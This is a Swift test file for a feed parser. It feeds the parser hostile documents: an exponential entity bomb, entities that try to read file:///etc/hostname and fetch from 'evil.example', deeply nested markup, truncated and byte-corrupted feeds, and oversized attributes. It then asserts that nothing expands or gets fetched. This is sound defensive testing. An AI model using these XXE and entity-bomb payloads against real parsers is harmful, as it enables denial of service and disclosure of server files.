// Documents made to break a parser: depth, entities, sizes, cuts at every byte.
import Foundation
import Testing
import VigieModel
import VigieParse

struct HostileInputTests {
    @Test func `an entity bomb does not go off`() throws {
        var text = "<?xml version='1.0'?><!DOCTYPE rss [<!ENTITY a \"0123456789\"><!ENTITY name 'Vigie'>"
        for (left, right) in zip("bcdefghij", "abcdefghi") {
            text += "<!ENTITY \(left) \"" + String(repeating: "&\(right);", count: 10) + "\">"
        }
        text += "]>" + rss("<item><title>&j; &name; &a;</title></item>")
        let feed = try parse(text)
        #expect(feed.items.first?.title == "&j; Vigie 0123456789")
    }

    @Test func `outside entities are not fetched`() throws {
        let text = "<!DOCTYPE rss [<!ENTITY x SYSTEM 'file:///etc/hostname'><!ENTITY % p SYSTEM 'http://evil.example/'> %p;]>"
        let feed = try parse(text + rss("<item><title>a&x;b</title></item>"))
        #expect(feed.items.first?.title == "a&x;b")
    }

    @Test(arguments: [10_000, 200_000])
    func `deep nesting ends in a feed or a refusal`(depth: Int) throws {
        let nested = String(repeating: "<a>", count: depth) + "x" + String(repeating: "</a>", count: depth)
        let feed = try parse(rss("<item><title>A</title></item><item><description>\(nested)</description></item>"))
        #expect(feed.items.first?.title == "A" && feed.isMalformed)
        #expect(throws: ParseError.self) { try parse(String(repeating: "<a>", count: depth)) }
    }

    @Test func `deep JSON is refused`() {
        #expect(throws: ParseError.self) { try parse(String(repeating: "[", count: 200_000)) }
        #expect(throws: ParseError.self) { try parse("{\"items\": " + String(repeating: "{\"a\":", count: 200_000)) }
    }

    @Test func `deep markup in a text keeps the text`() throws {
        let nested = String(repeating: "<div>", count: 50_000) + "x"
        let item = try item("<description><![CDATA[\(nested)]]></description>")
        #expect(item.text == "x" && item.summary?.hasPrefix("<div><div>") == true)
    }

    @Test func `a feed may be cut at any byte`() throws {
        let whole = try Fixture.data("rss-2.0.xml")
        for length in stride(from: 0, to: whole.count, by: 7) {
            let feed = try? FeedParser.parse(bytes: whole.prefix(length), baseURL: nil, contentType: nil)
            #expect((feed?.items.count ?? 0) <= 1)
        }
    }

    @Test func `any byte may be any other`() throws {
        var generator = SplitMix(state: 20_261_121)
        for name in ["rss-2.0.xml", "atom-1.0.xml", "jsonfeed-1.1.json", "rss-1.0.rdf"] {
            let whole = try Fixture.data(name)
            for _ in 0..<150 {
                var bytes = whole
                for _ in 0..<4 { bytes[Int(generator.next() % UInt64(bytes.count))] = UInt8(truncatingIfNeeded: generator.next()) }
                let feed = try? FeedParser.parse(bytes: bytes, baseURL: "https://x.example/", contentType: nil)
                #expect(feed.map { !$0.jsonLine(file: name).contains("\n") } != false)
            }
        }
    }

    @Test func `many attributes and long names are borne`() throws {
        let attributes = (0..<2000).map { "a\($0)='x'" }.joined(separator: " ")
        let name = String(repeating: "n", count: 20_000)
        let feed = try parse(rss("<item \(attributes)><title>A</title><\(name)>x</\(name)></item>"))
        #expect(feed.items.first?.title == "A")
    }

    @Test(arguments: [
        "<?", "<![", "</", "<!", "<a ", "&", "&#", "<a b=", "<!--", "<![CDATA[", "]]>", "<p>", "<x", "a=", "<b><i>", "&amp;lt;",
    ])
    func `a sign repeated a hundred thousand times costs no hours`(sign: String) throws {
        let many = String(repeating: sign, count: 100_000)
        let naked = try parse(rss("<item><title>A</title></item><item><description>\(many)</description></item>"))
        #expect(naked.items.first?.title == "A")
        #expect(HTMLText.plainText(ofHTML: many).utf8.count <= many.utf8.count)
        #expect(try item("<title>A</title><author>\(String(repeating: "a", count: 100_000))</author>").title == "A")
    }

    /// Found in a browser test: libxml2 crashed where its parser was stopped within a long text.
    @Test(arguments: [true, false]) func `an end of CDATA that stands in a long text by mistake loses nothing`(isFirst: Bool) throws {
        let words = String(repeating: "word ", count: 80_000)
        let text = isFirst ? "a ]]> b \(words)" : "\(words) a ]]> b"
        let feed = try parse(rss("<item><title>A</title><description>\(text)</description></item>"))
        #expect(feed.items.map(\.title) == ["A"])
        #expect(feed.items.first?.text.utf8.count ?? 0 >= words.utf8.count)
    }

    @Test func `end tags behind a tag of half a megabyte do not each read it`() throws {
        let start = "<div title=\"\(String(repeating: "x", count: 500_000))\">"
        for end in ["</p>", "</b>", "</br>"] {
            let html = start + String(repeating: end, count: 100_000) + "end"
            #expect(HTMLText.plainText(ofHTML: html).hasSuffix("end"))
            #expect(try item("<title>A</title><description><![CDATA[\(html)]]></description>").text.hasSuffix("end"))
        }
    }

    @Test func `a start tag with a hundred thousand attributes is cut`() throws {
        let attributes = (0..<100_000).map { " a\($0)='>'" }.joined()
        let feed = try parse(rss("<item\(attributes)><title>A</title></item>"))
        #expect(feed.items.map(\.title) == ["A"])
    }

    /// Numbers that are the same at every run.
    private struct SplitMix: RandomNumberGenerator {
        var state: UInt64

        mutating func next() -> UInt64 {
            state &+= 0x9E37_79B9_7F4A_7C15
            var mixed = state
            mixed = (mixed ^ (mixed >> 30)) &* 0xBF58_476D_1CE4_E5B9
            mixed = (mixed ^ (mixed >> 27)) &* 0x94D0_49BB_1331_11EB
            return mixed ^ (mixed >> 31)
        }
    }
}
